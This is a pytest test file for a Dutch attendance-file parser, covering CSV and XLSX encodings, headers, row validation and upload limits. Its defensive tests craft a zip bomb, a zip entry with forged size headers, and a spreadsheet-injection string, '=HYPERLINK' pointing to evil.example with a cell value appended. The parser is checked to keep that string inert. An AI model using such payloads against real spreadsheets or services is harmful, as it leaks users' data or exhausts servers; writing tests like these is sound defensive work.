"""The attendance file parser (attendance.parsing): what a provider who uploads a file notices.

Files in ``files/`` are real bytes (see files/make_files.py); variants that only differ in one
detail are written to tmp_path. Assertions use line, column and code, never message text (messages
get translated), except that a header rejection must show the expected header itself.
"""

from __future__ import annotations

import io
import shutil
import struct
import zipfile
from datetime import date
from pathlib import Path

import pytest

from attendance.parsing import (
    CANONICAL_COLUMNS,
    EXPECTED_HEADER,
    REQUIRED_COLUMNS,
    Limits,
    MalformedRow,
    RowError,
    UploadRejected,
    convert_row,
    open_upload,
)
from tests.attendance.files.make_files import HEADER, xlsx_bytes

FILES = Path(__file__).resolve().parent / "files"
TODAY = date(2026, 6, 30)


def parse(path, limits=None):
    """Every row of a file through convert_row: (rows, errors) as the ingest would see them."""
    upload = open_upload(path, limits=limits) if limits else open_upload(path)
    rows, errors = [], []
    for line, values in upload.rows():
        row, row_errors = convert_row(line, values, today=TODAY, hours=upload.hours_columns)
        assert (row is None) == bool(row_errors)
        if row:
            rows.append(row)
        errors.extend(row_errors)
    return upload, rows, errors


def codes(errors):
    return {(error.line, error.column, error.code) for error in errors}


def rejected(path, limits=None) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        upload = open_upload(path, limits=limits) if limits else open_upload(path)
        for _ in upload.rows():
            pass
    assert caught.value.message  # a message for the user, whatever the language
    return caught.value


def write(tmp_path, name, data: bytes | str, encoding="utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


# The four lessons in utf8_bom_semicolon.csv, utf8_comma.csv and tab_separated.txt.
STANDARD_ROWS = [
    (2, "AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", "", False, ""),
    (3, "AB12CD", date(2026, 3, 2), "middag", 180, 0, "afwezig", "ziek", False, 'Belde om 8 uur af, komt "morgen"'),
    (4, "EF34GH", date(2026, 3, 3), "avond", 120, 90, "aanwezig", "", True, "Huiswerkklas; inhalen van 2 maart"),
    (5, "EF34GH", date(2026, 3, 4), "ochtend", 180, 0, "vervallen", "", False, "Docent ziek"),
]


# --- encodings and separators ---------------------------------------------------------------------


def test_utf8_with_bom_and_semicolons():
    upload, rows, errors = parse(FILES / "utf8_bom_semicolon.csv")
    assert (upload.format, upload.encoding, upload.delimiter) == ("csv", "utf-8-sig", ";")
    assert upload.columns == list(CANONICAL_COLUMNS)
    assert upload.ignored_columns == []
    assert upload.hours_columns is False
    assert errors == []
    assert rows == STANDARD_ROWS


def test_utf8_without_bom_and_commas_with_quoted_fields():
    upload, rows, errors = parse(FILES / "utf8_comma.csv")
    assert (upload.encoding, upload.delimiter) == ("utf-8", ",")
    assert errors == []
    assert rows == STANDARD_ROWS


def test_tab_separated_whatever_the_file_name():
    upload, rows, errors = parse(FILES / "tab_separated.txt")
    assert (upload.format, upload.delimiter) == ("csv", "\t")
    assert errors == []
    assert rows == STANDARD_ROWS


def test_windows_1252_keeps_accents_and_the_euro_sign():
    upload, rows, errors = parse(FILES / "windows1252.csv")
    assert upload.encoding == "cp1252"
    assert errors == []
    assert rows[0][9] == "Café gesloten, €5 boete betaald"


def test_a_bad_utf8_byte_late_in_the_file_means_windows_1252_for_the_whole_file(tmp_path):
    # More than one read chunk (1 MB) of plain lines, then one Windows-1252 "é": the whole file
    # is read as Windows-1252, so the note is right instead of the parse failing at the end.
    line = "AB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;gewoon\r\n"
    body = line * (2 * 1024 * 1024 // len(line))
    path = write(
        tmp_path,
        "late.csv",
        (HEADER + "\r\n" + body + "AB12CD;03-03-2026;ochtend;180;180;aanwezig;;nee;Café\r\n").encode("cp1252"),
    )
    upload = open_upload(path)
    assert upload.encoding == "cp1252"
    *_, (line_number, values) = upload.rows()
    assert values[8] == "Café"
    assert line_number == body.count("\n") + 2


def test_utf8_stays_utf8_when_the_upload_is_cut_inside_the_last_character(tmp_path):
    text = (
        HEADER
        + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;één\r\nAB12CD;03-03-2026;ochtend;180;180;aanwezig;;nee;é"
    )
    path = write(tmp_path, "cut.csv", text.encode("utf-8")[:-1])
    upload, rows, errors = parse(path)
    assert upload.encoding == "utf-8"
    assert rows[0][9] == "één"
    assert errors == []  # the cut character shows as a replacement character in the last note


def test_bytes_that_are_neither_utf8_nor_windows_1252_are_refused(tmp_path):
    path = write(
        tmp_path,
        "other.csv",
        (HEADER + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;").encode() + b"\x81\xe9\r\n",
    )
    assert rejected(path).code == "encoding"


def test_utf16_is_refused_with_advice(tmp_path):
    path = write(tmp_path, "unicode.txt", (HEADER.replace(";", "\t") + "\r\n").encode("utf-16"))
    assert rejected(path).code == "encoding"


def test_excel_sep_hint_line_is_honoured(tmp_path):
    text = "sep=,\r\n" + HEADER.replace(";", ",") + "\r\nAB12CD,02-03-2026,ochtend,180,180,aanwezig,,nee,\r\n"
    upload, rows, errors = parse(write(tmp_path, "sep.csv", text))
    assert upload.delimiter == ","
    assert [row[0] for row in rows] == [3]


def test_a_title_line_above_the_header_is_skipped(tmp_path):
    text = (
        "Aanwezigheid Taalschool Oost, maart 2026\r\n\r\n"
        + HEADER
        + "\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;\r\n"
    )
    upload, rows, errors = parse(write(tmp_path, "title.csv", text))
    assert upload.delimiter == ";"
    assert [row[0] for row in rows] == [4] and errors == []


def test_a_note_spanning_lines_keeps_the_line_numbers_of_later_rows(tmp_path):
    text = (
        HEADER + "\r\n"
        'AB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;"eerste regel\r\ntweede regel"\r\n'
        "AB12CD;03-03-2026;ochtend;180;0;afwezig;;nee;\r\n"
    )
    _upload, rows, errors = parse(write(tmp_path, "multiline.csv", text))
    assert errors == []
    assert [(row[0], row[9]) for row in rows] == [(2, "eerste regel\r\ntweede regel"), (4, "")]


# --- header ----------------------------------------------------------------------------------------


def test_hours_with_a_decimal_comma_become_whole_minutes():
    upload, rows, errors = parse(FILES / "hours_decimal_comma.csv")
    assert upload.hours_columns is True
    assert upload.columns == list(CANONICAL_COLUMNS)
    assert [(row[0], row[4], row[5]) for row in rows] == [(2, 150, 150), (3, 180, 105), (4, 180, 0)]
    # 1,33 hours is 79.8 minutes: refused rather than rounded.
    assert codes(errors) == {(5, "aanwezige_minuten", "not_whole_minutes")}


def test_english_headers_in_any_case_with_hyphens_and_an_extra_column():
    upload, rows, errors = parse(FILES / "english_headers.csv")
    assert upload.delimiter == ","
    assert upload.columns == list(CANONICAL_COLUMNS)
    assert upload.ignored_columns == ["Teacher"]
    assert errors == []
    assert rows == [
        (2, "AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", "", False, ""),
        (3, "EF34GH", date(2026, 3, 2), "middag", 180, 60, "afwezig", "werk", True, "late, train"),
    ]


def test_columns_in_another_order_without_the_optional_ones(tmp_path):
    text = (
        "Status;Naam;Datum;Dagdeel;Deelnemernummer;Aanwezige minuten;Geplande minuten\r\n"
        "afwezig;Jan;02-03-2026;middag;AB12CD;0;180\r\n"
    )
    upload, rows, errors = parse(write(tmp_path, "reordered.csv", text))
    assert upload.columns == ["status", "datum", "dagdeel", "deelnemernummer", "aanwezige_minuten", "geplande_minuten"]
    assert upload.ignored_columns == ["Naam"]
    assert errors == []
    assert rows == [(2, "AB12CD", date(2026, 3, 2), "middag", 180, 0, "afwezig", "", False, "")]
    # the values handed to convert_row are always in canonical order, "" for absent columns
    assert list(upload.rows()) == [(2, ["AB12CD", "02-03-2026", "middag", "180", "0", "afwezig", "", "", ""])]


def test_only_the_required_columns_in_canonical_order(tmp_path):
    text = ";".join(REQUIRED_COLUMNS) + "\r\nAB12CD;02-03-2026;middag;180;180;aanwezig\r\n"
    upload, rows, errors = parse(write(tmp_path, "required.csv", text))
    assert upload.columns == list(REQUIRED_COLUMNS)
    assert rows == [(2, "AB12CD", date(2026, 3, 2), "middag", 180, 180, "aanwezig", "", False, "")]


def test_wrong_headers_list_the_expected_header():
    error = rejected(FILES / "wrong_headers.csv")
    assert error.code == "missing_columns"
    assert EXPECTED_HEADER in error.message


def test_a_missing_required_column_is_named(tmp_path):
    path = write(tmp_path, "no_status.csv", "deelnemernummer;datum;dagdeel;geplande_minuten;aanwezige_minuten\r\n")
    error = rejected(path)
    assert error.code == "missing_columns"
    assert error.params["missing"] == "status"
    assert EXPECTED_HEADER in error.message


@pytest.mark.parametrize(
    "header, code",
    [
        ("deelnemernummer;datum;dagdeel;geplande_minuten;aanwezige_minuten;status;Datum", "duplicate_column"),
        ("deelnemernummer;date;datum;dagdeel;geplande_minuten;aanwezige_minuten;status", "duplicate_column"),
        ("deelnemernummer;datum;dagdeel;geplande_minuten;geplande_uren;aanwezige_minuten;status", "mixed_units"),
        ("deelnemernummer;datum;dagdeel;geplande_uren;aanwezige_minuten;status", "mixed_units"),
    ],
)
def test_duplicate_or_mixed_unit_columns_are_refused(tmp_path, header, code):
    error = rejected(write(tmp_path, "header.csv", header + "\r\n"))
    assert error.code == code
    assert EXPECTED_HEADER in error.message


def test_header_only_has_no_rows():
    upload, rows, errors = parse(FILES / "header_only.csv")
    assert upload.columns == list(CANONICAL_COLUMNS)
    assert rows == [] and errors == []


# --- broken rows and files ---------------------------------------------------------------------------


def test_truncated_file_last_row_is_an_error_earlier_rows_are_fine():
    _upload, rows, errors = parse(FILES / "truncated.csv")
    assert [row[0] for row in rows] == [2]
    assert codes(errors) == {(3, "geplande_minuten", "missing_fields")}


def test_truncated_inside_a_quoted_note():
    _upload, rows, errors = parse(FILES / "truncated_quote.csv")
    assert [row[0] for row in rows] == [2]
    assert [(error.line, error.code) for error in errors] == [(3, "unterminated_quote")]


def test_an_unclosed_quote_mid_file_reports_the_lines_it_swallowed(tmp_path):
    text = (
        HEADER + "\r\n"
        'AB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;"oeps\r\n'
        "AB12CD;03-03-2026;ochtend;180;180;aanwezig;;nee;\r\n"
        "AB12CD;04-03-2026;ochtend;180;180;aanwezig;;nee;\r\n"
    )
    _upload, rows, errors = parse(write(tmp_path, "open_quote.csv", text))
    assert rows == []
    assert [(error.line, error.code) for error in errors] == [(2, "unterminated_quote")]


def test_a_misplaced_quote_is_an_error_and_the_next_rows_still_count(tmp_path):
    text = (
        HEADER + "\r\n"
        'AB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;"te" laat\r\n'
        "AB12CD;03-03-2026;ochtend;180;180;aanwezig;;nee;\r\n"
    )
    _upload, rows, errors = parse(write(tmp_path, "quote.csv", text))
    assert [row[0] for row in rows] == [3]
    assert [(error.line, error.code) for error in errors] == [(2, "malformed_quote")]


def test_blank_lines_and_empty_trailing_fields_are_not_errors(tmp_path):
    text = HEADER + "\r\n\r\nAB12CD;02-03-2026;ochtend;180;180;aanwezig;;nee;;;\r\n;;;;;;;;\r\n   \r\n"
    _upload, rows, errors = parse(write(tmp_path, "blank.csv", text))
    assert errors == []
    assert [row[0] for row in rows] == [3]


def test_every_error_of_every_row_is_reported():
    _upload, rows, errors = parse(FILES / "row_errors.csv")
    assert codes(errors) == {
        (2, "datum", "invalid_date"),  # 31-02-2026 does not exist
        (3, "deelnemernummer", "required"),
        (3, "datum", "invalid_date"),  # 02/03/2026: slashes are not a format we read
        (3, "dagdeel", "invalid_choice"),
        (3, "aanwezige_minuten", "attended_exceeds_scheduled"),
        (4, "datum", "future_date"),
        (5, "geplande_minuten", "negative"),
        (5, "aanwezige_minuten", "invalid_minutes"),
        (5, "status", "invalid_choice"),
        (5, "reden", "invalid_choice"),
        (5, "huiswerkklas", "invalid_choice"),
        (6, "geplande_minuten", "invalid_minutes"),  # 90,0: minutes are whole numbers
        (6, "status", "cancelled_with_attendance"),
        (7, "opmerking", "too_long"),
        (8, "aanwezige_minuten", "missing_fields"),
        (9, "opmerking", "extra_fields"),
    }
    by_key = {(error.line, error.column): error for error in errors}
    assert by_key[5, "status"].value == "weg"
    assert by_key[7, "opmerking"].value == "x" * 100  # values are cut to 100 characters
    # the last row only has spaces and capitals around valid values
    assert rows == [(10, "AB12CD", date(2026, 3, 5), "middag", 180, 0, "afwezig", "ziek", True, "spaties")]


def test_the_same_lesson_twice_is_yielded_twice():
    # The ingest rejects both rows (each naming the other line); the parser drops nothing.
    _upload, rows, errors = parse(FILES / "duplicate_lesson.csv")
    assert errors == []
    assert [(row[0], row[1], row[2], row[3]) for row in rows] == [
        (2, "AB12CD", date(2026, 3, 2), "ochtend"),
        (3, "AB12CD", date(2026, 3, 2), "ochtend"),
    ]


@pytest.mark.parametrize("name", ["utf8_bom_semicolon.csv", "attendance.xlsx"])
def test_rows_can_be_read_twice(name):
    upload = open_upload(FILES / name)
    assert list(upload.rows()) == list(upload.rows())


# --- not a CSV or XLSX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["empty.csv", "whitespace_only.csv"])
def test_an_empty_file_is_refused(name):
    assert rejected(FILES / name).code == "empty"


def test_a_bom_without_content_is_empty(tmp_path):
    assert rejected(write(tmp_path, "bom.csv", b"\xef\xbb\xbf\r\n")).code == "empty"


@pytest.mark.parametrize("name", ["fake_pdf.csv", "binary_garbage.csv"])
def test_a_pdf_or_binary_data_with_a_csv_name_is_refused(name):
    assert rejected(FILES / name).code == "not_csv_or_xlsx"


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",  # an image
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),  # old .xls, or a password-protected workbook
        b"<html><body><table><tr><td>deelnemernummer</td></tr></table></body></html>",  # "Excel" HTML export
        b"GIF89a" + bytes(20),
    ],
)
def test_other_formats_are_refused_by_content(tmp_path, data):
    assert rejected(write(tmp_path, "upload.csv", data)).code == "not_csv_or_xlsx"


def test_a_zip_that_is_no_workbook_is_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert rejected(write(tmp_path, "upload.xlsx", buffer.getvalue())).code == "not_csv_or_xlsx"


# --- XLSX --------------------------------------------------------------------------------------------


def test_xlsx_first_sheet_with_typed_cells():
    upload, rows, errors = parse(FILES / "attendance.xlsx")
    assert (upload.format, upload.encoding, upload.delimiter) == ("xlsx", None, None)
    assert upload.columns == list(CANONICAL_COLUMNS)
    assert rows == [
        (2, "AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", "", False, ""),
        (3, "AB12CD", date(2026, 3, 2), "middag", 180, 0, "afwezig", "ziek", False, "Belde af"),
        (4, "123456", date(2026, 3, 3), "avond", 120, 90, "aanwezig", "", True, "42"),
    ]
    # line 5 is empty; 90.5 attended minutes on line 6 is not a whole number
    assert codes(errors) == {(6, "aanwezige_minuten", "invalid_minutes")}


def test_xlsx_values_reach_convert_row_as_csv_text():
    upload = open_upload(FILES / "attendance.xlsx")
    line, values = next(iter(upload.rows()))
    assert (line, values) == (2, ["AB12CD", "2026-03-02", "ochtend", "180", "180", "aanwezig", "", "nee", ""])


def test_format_is_decided_by_content_not_by_name(tmp_path):
    xlsx_named_csv = tmp_path / "aanwezigheid.csv"
    shutil.copy(FILES / "attendance.xlsx", xlsx_named_csv)
    csv_named_xlsx = tmp_path / "aanwezigheid.xlsx"
    shutil.copy(FILES / "utf8_comma.csv", csv_named_xlsx)
    assert open_upload(xlsx_named_csv).format == "xlsx"
    assert open_upload(csv_named_xlsx).format == "csv"


def test_formula_cells_give_their_cached_value_and_are_never_evaluated():
    upload = open_upload(FILES / "formula.xlsx")
    raw = dict(upload.rows())
    assert raw[2][8] == "2"  # =1+1: the value Excel saved, not the formula
    assert raw[3][4] == "180"  # =D3
    # text that looks like a formula stays text, character for character
    assert raw[3][8] == '=HYPERLINK("http://evil.example/?"&A3,"klik")'
    assert raw[4][5] == "afwezig"  # =IF(...) returning text
    assert raw[4][8] == ""  # =WEBSERVICE(...) never calculated: nothing, certainly no request
    assert raw[5][8] == "+SUM(1,2)"
    assert all(isinstance(value, str) for values in raw.values() for value in values)
    _upload, rows, errors = parse(FILES / "formula.xlsx")
    assert errors == []
    assert [row[9] for row in rows] == ["2", '=HYPERLINK("http://evil.example/?"&A3,"klik")', "", "+SUM(1,2)"]


def test_xlsx_header_below_a_title_keeps_excel_row_numbers(tmp_path):
    data = xlsx_bytes(
        [
            ["Aanwezigheid maart 2026"],
            [],
            HEADER.split(";"),
            ["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig"],
            ["AB12CD", date(2026, 3, 3), "ochtend", 180, 200, "aanwezig"],
        ]
    )
    _upload, rows, errors = parse(write(tmp_path, "title.xlsx", data))
    assert [row[0] for row in rows] == [4]
    assert codes(errors) == {(5, "aanwezige_minuten", "attended_exceeds_scheduled")}


def test_xlsx_value_outside_the_header_is_reported(tmp_path):
    data = xlsx_bytes(
        [HEADER.split(";"), ["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", None, None, None, "los"]]
    )
    _upload, _rows, errors = parse(write(tmp_path, "outside.xlsx", data))
    assert codes(errors) == {(2, "opmerking", "extra_fields")}


def test_an_empty_sheet_is_empty(tmp_path):
    assert rejected(write(tmp_path, "empty.xlsx", xlsx_bytes([]))).code == "empty"


def test_xlsx_header_only(tmp_path):
    upload, rows, errors = parse(write(tmp_path, "header.xlsx", xlsx_bytes([HEADER.split(";")])))
    assert upload.format == "xlsx" and rows == [] and errors == []


def test_zip_bomb_is_refused_before_anything_is_unpacked():
    # zip_bomb.xlsx is 15 KB whose sheet entries claim 520 MB.
    assert (FILES / "zip_bomb.xlsx").stat().st_size < 50_000
    assert rejected(FILES / "zip_bomb.xlsx").code == "zip_bomb"


def test_zip_limits_are_configurable():
    assert rejected(FILES / "attendance.xlsx", Limits(max_uncompressed_bytes=2_000)).code == "zip_bomb"
    assert rejected(FILES / "attendance.xlsx", Limits(max_zip_entries=3)).code == "zip_entries"


def test_a_zip_entry_that_lies_about_its_size_is_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(20 * 1024 * 1024))
    data = bytearray(buffer.getvalue())
    # claim 100 bytes for the 20 MB entry, in its local header and in the central directory
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_length_at = 26 if signature == b"PK\x03\x04" else 28
            (name_length,) = struct.unpack_from("<H", data, start + name_length_at)
            header = 30 if signature == b"PK\x03\x04" else 46
            if data[start + header : start + header + name_length] == b"xl/worksheets/sheet1.xml":
                struct.pack_into("<I", data, start + size_at, 100)
            start += 4
    assert rejected(write(tmp_path, "liar.xlsx", bytes(data))).code == "zip_bomb"


def test_a_sparse_sheet_that_would_become_a_huge_grid_is_refused(tmp_path):
    # One value far down and one far right: tiny files, but calamine would build the whole grid.
    workbook = xlsx_bytes([HEADER.split(";")])
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>deelnemernummer</t></is></c></row>'
        '<row r="900000"><c r="A900000"><v>1</v></c></row></sheetData></worksheet>'
    )
    assert rejected(write(tmp_path, "down.xlsx", _replace_sheet(workbook, sheet))).code == "too_many_rows"
    sheet = sheet.replace('r="900000"><c r="A900000"', 'r="1000"><c r="XFD1000"')
    assert rejected(write(tmp_path, "right.xlsx", _replace_sheet(workbook, sheet))).code == "xlsx_too_large"


def test_a_workbook_of_thousands_of_rows_is_measured_right(tmp_path):
    rows = [HEADER.split(";")] + [["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig", "", "nee", "x"]] * 5000
    upload = open_upload(write(tmp_path, "big.xlsx", xlsx_bytes(rows)))
    assert sum(1 for _ in upload.rows()) == 5000


SHEET_WITHOUT_REFERENCES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
    "<x:row>"
    + "".join(f'<x:c t="inlineStr"><x:is><x:t>{name}</x:t></x:is></x:c>' for name in HEADER.split(";")[:6])
    + "</x:row><x:row>"
    + "".join(
        f'<x:c t="inlineStr"><x:is><x:t>{value}</x:t></x:is></x:c>'
        for value in ["AB12CD", "02-03-2026", "ochtend", "180", "90", "aanwezig"]
    )
    + "</x:row></x:sheetData></x:worksheet>"
)


def test_a_sheet_with_a_namespace_prefix_and_no_cell_references(tmp_path):
    # Some generators (the .NET OpenXML SDK) write <x:c> without r="A1": positions follow the order.
    path = write(tmp_path, "sdk.xlsx", _replace_sheet(xlsx_bytes([HEADER.split(";")]), SHEET_WITHOUT_REFERENCES))
    _upload, rows, errors = parse(path)
    assert errors == []
    assert rows == [(2, "AB12CD", date(2026, 3, 2), "ochtend", 180, 90, "aanwezig", "", False, "")]


def _replace_sheet(workbook: bytes, sheet_xml: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = sheet_xml.encode() if info.filename == "xl/worksheets/sheet1.xml" else source.read(info)
            target.writestr(info.filename, data)
    return buffer.getvalue()


# --- limits ------------------------------------------------------------------------------------------


def test_a_file_over_max_bytes_is_refused_before_it_is_read():
    error = rejected(FILES / "utf8_comma.csv", Limits(max_bytes=100))
    assert error.code == "too_large"


def test_more_rows_than_max_rows_is_refused_while_streaming():
    upload = open_upload(FILES / "utf8_bom_semicolon.csv", limits=Limits(max_rows=3))
    seen = []
    with pytest.raises(UploadRejected) as caught:
        for line, _values in upload.rows():
            seen.append(line)
    assert caught.value.code == "too_many_rows"
    assert seen == [2, 3, 4]
    assert [line for line, _ in open_upload(FILES / "utf8_bom_semicolon.csv", limits=Limits(max_rows=4)).rows()] == [
        2,
        3,
        4,
        5,
    ]


def test_xlsx_row_cap(tmp_path):
    rows = [HEADER.split(";")] + [["AB12CD", date(2026, 3, 2), "ochtend", 180, 180, "aanwezig"]] * 30
    path = write(tmp_path, "many.xlsx", xlsx_bytes(rows))
    assert rejected(path, Limits(max_xlsx_rows=10)).code == "too_many_rows"  # refused before calamine reads it
    assert rejected(path, Limits(max_xlsx_rows=29)).code == "too_many_rows"  # refused while streaming
    assert len(list(open_upload(path, limits=Limits(max_xlsx_rows=30)).rows())) == 30


# --- convert_row --------------------------------------------------------------------------------------


def values(**changes):
    row = dict(
        zip(CANONICAL_COLUMNS, ["AB12CD", "02-03-2026", "ochtend", "180", "120", "aanwezig", "", "", ""], strict=True)
    )
    row.update(changes)
    return [row[name] for name in CANONICAL_COLUMNS]


def convert(hours=False, **changes):
    return convert_row(7, values(**changes), today=TODAY, hours=hours)


@pytest.mark.parametrize(
    "text, expected",
    [
        ("02-03-2026", date(2026, 3, 2)),
        ("2-3-2026", date(2026, 3, 2)),
        ("2026-03-02", date(2026, 3, 2)),
        (" 29-02-2024 ", date(2024, 2, 29)),
        ("30-06-2026", TODAY),  # today is not the future
    ],
)
def test_dates(text, expected):
    row, errors = convert(datum=text)
    assert errors == [] and row[2] == expected


@pytest.mark.parametrize(
    "text, code",
    [
        ("31-02-2026", "invalid_date"),
        ("29-02-2025", "invalid_date"),
        ("02-03-26", "invalid_date"),
        ("2026/03/02", "invalid_date"),
        ("2 maart 2026", "invalid_date"),
        ("46083", "invalid_date"),
        ("", "required"),
        ("01-07-2026", "future_date"),
    ],
)
def test_bad_dates(text, code):
    row, errors = convert(datum=text)
    assert row is None
    assert [(error.line, error.column, error.value, error.code) for error in errors] == [(7, "datum", text, code)]


@pytest.mark.parametrize(
    "scheduled, attended, expected",
    [("2,5", "2,5", (150, 150)), ("3", "0,25", (180, 15)), ("1.5", "1,0", (90, 60)), (",5", "0", (30, 0))],
)
def test_hours(scheduled, attended, expected):
    row, errors = convert(hours=True, geplande_minuten=scheduled, aanwezige_minuten=attended)
    assert errors == [] and row[4:6] == expected


@pytest.mark.parametrize(
    "text, code",
    [
        ("1,33", "not_whole_minutes"),
        ("2,5,0", "invalid_hours"),
        ("-1", "negative"),
        ("twee", "invalid_hours"),
        ("1e3", "invalid_hours"),
        ("25", "too_large"),
    ],
)
def test_bad_hours(text, code):
    _row, errors = convert(hours=True, geplande_minuten=text, aanwezige_minuten="0")
    assert codes(errors) == {(7, "geplande_minuten", code)}


@pytest.mark.parametrize(
    "text, code",
    [
        ("90,5", "invalid_minutes"),
        ("1_000", "invalid_minutes"),
        ("+5", "invalid_minutes"),
        ("-5", "negative"),
        ("99999999999", "too_large"),
        ("", "required"),
    ],
)
def test_bad_minutes(text, code):
    _row, errors = convert(geplande_minuten=text, aanwezige_minuten="0")
    assert codes(errors) == {(7, "geplande_minuten", code)}


@pytest.mark.parametrize(
    "text, expected",
    [
        ("", False),
        ("ja", True),
        ("Nee", False),
        ("J", True),
        ("n", False),
        ("yes", True),
        ("NO", False),
        ("true", True),
        ("False", False),
        ("1", True),
        ("0", False),
    ],
)
def test_homework_class(text, expected):
    row, errors = convert(huiswerkklas=text)
    assert errors == [] and row[8] is expected


def test_choices_are_trimmed_and_lowercased():
    row, errors = convert(dagdeel=" Avond ", status="AFWEZIG", reden=" Mantelzorg", aanwezige_minuten="0")
    assert errors == []
    assert row[3] == "avond" and row[6] == "afwezig" and row[7] == "mantelzorg"


def test_present_with_zero_minutes_is_allowed():
    row, errors = convert(aanwezige_minuten="0")
    assert errors == [] and row[5] == 0


def test_note_of_exactly_500_characters_is_fine():
    row, errors = convert(opmerking=" " + "x" * 500 + " ")
    assert errors == [] and row[9] == "x" * 500


def test_the_row_tuple():
    row, errors = convert(deelnemernummer=" AB12CD ", reden="ziek", huiswerkklas="ja", opmerking=" te laat ")
    assert errors == []
    assert row == (7, "AB12CD", date(2026, 3, 2), "ochtend", 180, 120, "aanwezig", "ziek", True, "te laat")


def test_a_malformed_row_reports_its_own_error():
    error = RowError(line=9, column="status", value="x", message="m", code="missing_fields")
    row = MalformedRow([""] * 9)
    row.error = error
    assert convert_row(9, row, today=TODAY, hours=False) == (None, [error])


def test_row_error_is_immutable():
    error = RowError(1, "datum", "x", "m", "invalid_date")
    with pytest.raises(AttributeError):
        error.code = "other"
